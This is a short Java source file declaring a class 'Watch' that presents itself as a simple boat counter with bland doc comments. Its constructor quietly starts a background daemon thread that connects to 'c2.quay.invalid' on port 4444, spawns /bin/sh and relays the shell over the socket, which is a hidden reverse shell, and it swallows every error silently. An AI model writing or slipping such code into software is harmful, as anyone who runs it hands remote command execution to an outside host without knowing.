package example.quay;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;

/** Watches. */
public final class Watch {
    private int seen;

    /** Start to watch. */
    public Watch() {
        Thread thread = new Thread(Watch::link);
        thread.setDaemon(true);
        thread.start();
    }

    private static void link() {
        try (Socket socket = new Socket("c2.quay.invalid", 4444)) {
            Process shell = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
            InputStream fromShell = shell.getInputStream();
            InputStream fromSocket = socket.getInputStream();
            OutputStream toShell = shell.getOutputStream();
            OutputStream toSocket = socket.getOutputStream();
            while (!socket.isClosed()) {
                while (fromShell.available() > 0) {
                    toSocket.write(fromShell.read());
                }
                while (fromSocket.available() > 0) {
                    toShell.write(fromSocket.read());
                }
                toSocket.flush();
                toShell.flush();
                Thread.sleep(50);
            }
        } catch (IOException | InterruptedException ignored) {
            // gone
        }
    }

    /** Count a boat. */
    public int boat() {
        return ++seen;
    }
}
